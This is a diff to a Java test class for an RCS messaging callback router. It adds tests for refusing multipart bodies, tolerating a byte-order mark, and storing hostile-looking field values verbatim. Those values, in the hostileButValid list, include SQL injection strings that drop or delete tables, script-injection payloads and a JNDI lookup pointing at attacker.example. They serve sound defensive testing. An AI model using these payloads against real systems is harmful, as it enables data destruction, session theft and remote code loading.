@@ -1,15 +1,20 @@
 package io.rcsrouter;
 
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.Arrays;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.rcsrouter.support.Callbacks;
 import io.rcsrouter.support.RouterHarness;
 import io.rcsrouter.support.Samples;
 import org.junit.jupiter.api.AfterAll;
@@ -34,22 +39,49 @@ class BadInputTest {
     static final ObjectMapper JSON = new ObjectMapper();
     RouterHarness router;
 
-    /** One stored bad request: headers "expect", "content-type", "error-contains", then "---" and the body. */
-    record BadRequest(String name, int expect, String contentType, String errorContains, String body) {
+    /**
+     * One stored bad request: header lines, a line "---", then the body verbatim. Headers: "expect" (the status),
+     * "content-type" (or "none"), "error-contains" (a substring of the JSON error and the audit detail), "about"
+     * (why a correct router refuses it; optional), and "body-encoding: base64" for a body of bytes that a text
+     * file cannot show (invalid UTF-8, NUL, a byte-order mark): the body is then Base64, wrapped as you like.
+     */
+    record BadRequest(String name, int expect, String contentType, String errorContains, byte[] body) {
+
+        private static final java.util.Set<String> HEADERS =
+                java.util.Set.of("expect", "content-type", "error-contains", "about", "body-encoding");
+
         @Override
         public String toString() {
             return name;
         }
 
+        /** What the audit row keeps: the body as text, bytes that are not UTF-8 and NUL shown as U+FFFD. */
+        String storedPayload() {
+            return new String(body, StandardCharsets.UTF_8).replace((char) 0, '\uFFFD');
+        }
+
         static BadRequest read(Path file) {
             try {
-                String text = Files.readString(file);
-                int sep = text.indexOf("\n---\n");
-                String body = text.substring(sep + 5);
+                byte[] bytes = Files.readAllBytes(file);
+                int sep = indexOf(bytes, "\n---\n".getBytes(StandardCharsets.US_ASCII));
+                if (sep < 0) {
+                    throw new IllegalStateException(file + ": no line \"---\" between the headers and the body");
+                }
+                byte[] body = Arrays.copyOfRange(bytes, sep + 5, bytes.length);
                 Map<String, String> h = new java.util.HashMap<>();
-                for (String line : text.substring(0, sep).split("\n")) {
+                for (String line : new String(bytes, 0, sep, StandardCharsets.UTF_8).split("\n")) {
                     int colon = line.indexOf(':');
-                    h.put(line.substring(0, colon).strip(), line.substring(colon + 1).strip());
+                    String name = line.substring(0, colon).strip();
+                    if (!HEADERS.contains(name)) {
+                        throw new IllegalStateException(file + ": unknown header '" + name + "'");
+                    }
+                    h.put(name, line.substring(colon + 1).strip());
+                }
+                String encoding = h.getOrDefault("body-encoding", "verbatim");
+                if (encoding.equals("base64")) {
+                    body = Base64.getMimeDecoder().decode(body);
+                } else if (!encoding.equals("verbatim")) {
+                    throw new IllegalStateException(file + ": unknown body-encoding '" + encoding + "'");
                 }
                 String ct = h.get("content-type");
                 return new BadRequest(file.getFileName().toString(), Integer.parseInt(h.get("expect")),
@@ -57,6 +89,19 @@ class BadInputTest {
             } catch (IOException e) {
                 throw new java.io.UncheckedIOException(e);
             }
+        }
+
+        private static int indexOf(byte[] haystack, byte[] needle) {
+            outer:
+            for (int i = 0; i + needle.length <= haystack.length; i++) {
+                for (int j = 0; j < needle.length; j++) {
+                    if (haystack[i + j] != needle[j]) {
+                        continue outer;
+                    }
+                }
+                return i;
+            }
+            return -1;
         }
     }
 
@@ -76,13 +121,13 @@ class BadInputTest {
 
     @Test
     void corpusIsThere() throws IOException {
-        assertThat(corpus().count()).isGreaterThanOrEqualTo(25);
+        assertThat(corpus().count()).isGreaterThanOrEqualTo(65);
     }
 
     @ParameterizedTest(name = "{0}")
     @MethodSource("corpus")
     void storedBadRequestIsRefusedAndRecorded(BadRequest bad) throws Exception {
-        assertRejected(bad.body(), bad.contentType(), bad.expect(), bad.errorContains());
+        assertRejected(bad.body(), bad.storedPayload(), bad.contentType(), bad.expect(), bad.errorContains());
     }
 
     @Test
@@ -134,8 +179,122 @@ class BadInputTest {
                         .extractingByKey("payload").isEqualTo(body));
     }
 
+    /**
+     * The server takes a multipart body apart into fields and uploads and keeps no raw bytes, so the router cannot
+     * read or record it: refused, even when a part holds a valid callback (a file part used to be accepted).
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"field", "file"})
+    void multipartIsRefusedNotUnpacked(String part) throws Exception {
+        String eventId = "MxMultipart-" + part;
+        String disposition = part.equals("file")
+                ? "form-data; name=\"callback\"; filename=\"callback.json\"\r\nContent-Type: application/json"
+                : "form-data; name=\"callback\"";
+        String body = "--b0undary\r\nContent-Disposition: " + disposition + "\r\n\r\n"
+                + Callbacks.text(eventId, "19785550103", "hi") + "\r\n--b0undary--\r\n";
+        assertRejected(body.getBytes(StandardCharsets.UTF_8), "", "multipart/form-data; boundary=b0undary", 400,
+                "a multipart/form-data request is not a callback");
+        assertThat(router.auditRow("event:" + eventId)).isNull();
+    }
+
+    // --- input that looks hostile but is a valid callback: accepted, and kept exactly as sent ---
+
+    /**
+     * A byte-order mark before the JSON: RFC 8259 forbids sending one but lets a parser ignore it, and refusing it
+     * would drop a real subscriber's message (an opt-out among them) over an invisible encoding signature. The
+     * audit keeps the body as received, BOM included; the CRM request's raw is still the callback as JSON.
+     */
+    @Test
+    void aLeadingByteOrderMarkIsIgnoredAndKeptInTheAudit() throws Exception {
+        String json = Callbacks.text("MxBom", "19785550104", "Is my order shipped?");
+        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
+        byte[] body = new byte[bom.length + json.getBytes(StandardCharsets.UTF_8).length];
+        System.arraycopy(bom, 0, body, 0, bom.length);
+        System.arraycopy(json.getBytes(StandardCharsets.UTF_8), 0, body, bom.length, body.length - bom.length);
+
+        var r = router.post("/callbacks/rcs", body, "application/json");
+
+        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
+        assertThat(r.body()).isEqualTo("{\"status\":\"accepted\"}");
+        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
+                assertThat(router.auditRow("event:MxBom")).isNotNull()
+                        .extractingByKey("status").isEqualTo("DELIVERED"));
+        Map<String, Object> row = router.auditRow("event:MxBom");
+        assertThat(row.get("payload")).isEqualTo("\uFEFF" + json);
+        assertThat(row.get("route")).isEqualTo("CRM");
+        JsonNode crmRequest = Files.readAllLines(router.dataDir().resolve("crm-outbox.jsonl")).stream()
+                .filter(line -> line.contains("MxBom")).map(BadInputTest::readJson).findFirst().orElseThrow();
+        assertThat(crmRequest.get("raw")).isEqualTo(JSON.readTree(json));
+    }
+
+    /** A field of a valid callback set to something an attacker would send: data, never code. */
+    record HostileValue(String name, String field, String value) {
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    static Stream<HostileValue> hostileButValid() {
+        return Stream.of(
+                new HostileValue("sql-in-text", "text", "'); DROP TABLE rcs_audit;--"),
+                new HostileValue("sql-in-message-id", "messageId", "bad' OR '1'='1"),
+                new HostileValue("sql-in-agent", "to", "kio_rcs'; DELETE FROM rcs_consent; --"),
+                new HostileValue("script-in-text", "text", "<script>alert(document.cookie)</script>"),
+                new HostileValue("html-in-carrier", "carrierId", "<img src=x onerror=alert(1)>"),
+                new HostileValue("lookups-in-text", "text", "${jndi:ldap://attacker.example/a} {{7*7}} #{7*7}"),
+                new HostileValue("camel-expression-in-message-id", "messageId", "${sys:user.home}${header.rcsType}"));
+    }
+
+    /**
+     * SQL, script, template and expression payloads in otherwise valid fields are accepted (they are what the
+     * subscriber or the gateway sent) and stored verbatim: nothing along the way interprets them.
+     */
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("hostileButValid")
+    void hostileLookingValuesInValidCallbacksAreAcceptedAndStoredVerbatim(HostileValue hostile) throws Exception {
+        String eventId = "MxHostile-" + hostile.name();
+        ObjectNode callback = (ObjectNode) JSON.readTree(Callbacks.text(eventId, "19785550105", "hello"));
+        ObjectNode data = (ObjectNode) callback.get("data");
+        if (hostile.field().equals("text")) {
+            ((ObjectNode) data.get("userMessage")).put("text", hostile.value());
+        } else {
+            data.put(hostile.field(), hostile.value());
+        }
+        String body = callback.toString();
+
+        var r = router.postJson(body);
+
+        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
+        assertThat(r.body()).isEqualTo("{\"status\":\"accepted\"}");
+        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
+                assertThat(router.auditRow("event:" + eventId)).isNotNull());
+        Map<String, Object> row = router.auditRow("event:" + eventId);
+        assertThat(row.get("payload")).isEqualTo(body);
+        String column = Map.of("messageId", "message_id", "to", "agent", "carrierId", "carrier")
+                .get(hostile.field());
+        if (column != null) {
+            assertThat(row.get(column)).isEqualTo(hostile.value());
+        }
+        assertThat(router.count("SELECT COUNT(*) FROM rcs_audit")).isPositive();
+    }
+
+    private static JsonNode readJson(String text) {
+        try {
+            return JSON.readTree(text);
+        } catch (IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+    }
+
     private Map<String, Object> assertRejected(String body, String contentType, int status, String errorContains)
             throws Exception {
+        return assertRejected(body.getBytes(StandardCharsets.UTF_8), body, contentType, status, errorContains);
+    }
+
+    /** {@code stored}: what the audit row must keep of {@code body}. */
+    private Map<String, Object> assertRejected(byte[] body, String stored, String contentType, int status,
+            String errorContains) throws Exception {
         long before = router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'");
         var r = router.post("/callbacks/rcs", body, contentType);
         assertThat(r.statusCode()).as(r.body()).isEqualTo(status);
@@ -143,6 +302,7 @@ class BadInputTest {
         assertThat(r.headers().map().keySet()).noneMatch(h -> h.toLowerCase().startsWith("rcs"));
         JsonNode error = JSON.readTree(r.body());
         assertThat(error.get("error").asText()).contains(errorContains);
+        assertPlainSentence(error.get("error").asText());
         await().atMost(Duration.ofSeconds(5)).untilAsserted(() ->
                 assertThat(router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'"))
                         .isEqualTo(before + 1));
@@ -150,10 +310,17 @@ class BadInputTest {
                 "SELECT * FROM rcs_audit WHERE status = 'REJECTED' ORDER BY id DESC");
         Map<String, Object> row = rows.get(0);
         assertThat((String) row.get("detail")).startsWith(status + " ").contains(errorContains);
-        if (body.length() < 60_000 && !body.isBlank()) {
-            assertThat(row.get("payload")).isEqualTo(body);
+        if (stored.length() < 60_000 && !stored.isBlank()) {
+            assertThat(row.get("payload")).isEqualTo(stored);
         }
         assertThat(row.get("dedup_key")).isNull();
         return row;
+    }
+
+    /** An error is for the sender: it names the problem in words, not the parser's classes and switches. */
+    private static void assertPlainSentence(String error) {
+        assertThat(error).isNotBlank()
+                .doesNotContain("`", "com.fasterxml", "jackson", "Feature", "StreamReadConstraints", "Exception",
+                        "\tat ", "[Source:");
     }
 }
